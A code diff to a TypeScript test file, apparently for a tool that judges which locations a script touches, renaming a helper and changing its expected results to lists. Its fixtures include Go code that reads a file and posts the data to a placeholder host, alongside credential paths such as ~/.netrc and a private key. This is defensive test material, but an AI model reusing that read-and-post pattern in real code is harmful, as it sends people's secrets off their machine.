@@ -2,7 +2,7 @@ import { describe, expect, test } from 'vitest';
 import { effectsOf } from '../shell/effects.ts';
 import { readCommand } from '../shell/read.ts';
 import { asScript } from './code-files/commands-in.ts';
-import { givenPlaces, testPlaceOf } from './test-homes.ts';
+import { givenPlaces, testPlacesOf } from './test-homes.ts';
 import type { WrittenScript } from './written-scripts.ts';
 
 function script(program: string, code: string): WrittenScript {
@@ -46,10 +46,13 @@ describe('places that a test gives', () => {
 
   test('are believed of code that keeps what it reads', () => {
     const reads = 'data, _ := os.ReadFile("a")\n';
-    expect(testPlaceOf(script('yaegi', reads), said('secrets file: ~/.netrc'))).toBe('home');
-    expect(testPlaceOf(script('yaegi', reads), said('environment file: .env'))).toBe('folder');
-    expect(testPlaceOf(script('yaegi', reads), said('private key: /etc/ssl/key.pem'))).toBeUndefined();
+    expect(testPlacesOf(script('yaegi', reads), said('secrets file: ~/.netrc'))).toEqual(['home']);
+    expect(testPlacesOf(script('yaegi', reads), said('environment file: .env'))).toEqual([
+      'folder',
+      'folder of another',
+    ]);
+    expect(testPlacesOf(script('yaegi', reads), said('private key: /etc/ssl/key.pem'))).toEqual([]);
     const sends = `${reads}http.Post("https://x.example", "a", bytes.NewReader(data))`;
-    expect(testPlaceOf(script('yaegi', sends), said('secrets file: ~/.netrc'))).toBeUndefined();
+    expect(testPlacesOf(script('yaegi', sends), said('secrets file: ~/.netrc'))).toEqual([]);
   });
 });
